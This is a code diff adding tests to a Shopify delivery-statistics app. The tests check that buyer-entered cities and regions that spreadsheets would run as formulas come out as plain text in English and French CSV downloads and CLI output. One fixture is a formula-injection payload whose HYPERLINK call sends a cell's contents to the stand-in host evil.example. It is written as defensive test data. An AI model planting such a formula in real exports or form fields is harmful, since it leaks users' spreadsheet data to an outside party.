@@ -178,6 +178,80 @@ describe("the CSV download", () => {
   });
 });
 
+/** A buyer's city a spreadsheet would run: a leading minus then a digit reads as a number to a lax check. */
+const FORMULA_CITY = '-1+HYPERLINK("http://evil.example/?"&A1,"x")';
+const DEFUSED_CITY = `"'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")"`;
+
+/** A shop whose one delivery went to FORMULA_CITY, in region "=Lagunes". */
+async function shopWithFormulaCity(label: string): Promise<string> {
+  const domain = await stack.installShop({ currency: "XOF", label });
+  const { id } = await stack.db.shop.update({ where: { domain }, data: { ianaTimezone: NAIROBI } });
+  await historyOrder(stack.db, id, {
+    name: "#F1",
+    place: { country: "CI", region: "=Lagunes", city: FORMULA_CITY },
+    plan: "COD",
+    sentAt: history.at(2, 10),
+    events: [["delivered", history.at(4, 10)]],
+  });
+  return domain;
+}
+
+describe("a buyer's text in the CSV", () => {
+  test("a city or region that reads as a formula is text in the download and the CLI's file, in both languages", async () => {
+    const formulaShop = await shopWithFormulaCity("performance-formula");
+    const query = new URLSearchParams({ from: history.first, to: history.last });
+    const english = await fetch(`${stack.app.url}/app/performance/csv?${query}`, {
+      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop)}` },
+    });
+    expect(english.status).toBe(200);
+    const period = `${history.first},${history.last},${NAIROBI}`;
+    const cityLine = `city,CI,'=Lagunes,${DEFUSED_CITY},,1,1,0,0,0,1,0,1,0,0,0,2,2,0,0,,${period}`;
+    expect((await english.text()).split("\r\n")).toContain(cityLine);
+
+    // A French viewer (Shopify names the admin's language on the request) gets the French file.
+    query.set("locale", "fr");
+    const french = await fetch(`${stack.app.url}/app/performance/csv?${query}`, {
+      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop, 3600, "french-viewer")}` },
+    });
+    expect(french.status).toBe(200);
+    const bytes = Buffer.from(await french.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const frenchLines = bytes.subarray(3).toString("utf8").split("\r\n");
+    expect(frenchLines[0]).toMatch(/^Groupe;Pays;Région;Ville;Paiement;Transmises;Livrées;/);
+    expect(frenchLines).toContain(
+      cityLine.replaceAll(",", ";").replace(DEFUSED_CITY.replaceAll(",", ";"), DEFUSED_CITY),
+    );
+
+    const cli = await runCli(stack, [
+      "stats:delivery",
+      "--shop",
+      formulaShop,
+      "--from",
+      history.first,
+      "--to",
+      history.last,
+      "--csv",
+    ]);
+    expect(cli.code).toBe(0);
+    expect(cli.stdout.split("\r\n")).toContain(cityLine);
+    const cliFrench = await runCli(stack, [
+      "stats:delivery",
+      "--shop",
+      formulaShop,
+      "--from",
+      history.first,
+      "--to",
+      history.last,
+      "--csv",
+      "--locale",
+      "fr",
+    ]);
+    expect(cliFrench.code).toBe(0);
+    expect(cliFrench.stdout.startsWith("\uFEFFGroupe;Pays;")).toBe(true);
+    expect(cliFrench.stdout.slice(1)).toBe(frenchLines.join("\r\n"));
+  });
+});
+
 describe("npm run cli -- stats:delivery", () => {
   test("--json prints the same figures as the query", async () => {
     const run = await runCli(stack, [
@@ -239,6 +313,9 @@ describe("npm run cli -- stats:delivery", () => {
     expect(both.stderr).toContain("Choose one of --json and --csv.");
     const mixed = await runCli(stack, ["stats:delivery", "--shop", shop, "--days", "7", "--from", history.first]);
     expect(mixed.code).toBe(2);
+    const badLocale = await runCli(stack, ["stats:delivery", "--shop", shop, "--csv", "--locale", "de"]);
+    expect(badLocale.code).toBe(2);
+    expect(badLocale.stderr).toContain('--locale must be en or fr, got "de".');
     const unknown = await runCli(stack, ["stats:delivery", "--shop", "nobody.myshopify.com"]);
     expect(unknown.code).toBe(1);
     expect(unknown.stderr).toContain("Unknown shop nobody.myshopify.com.");
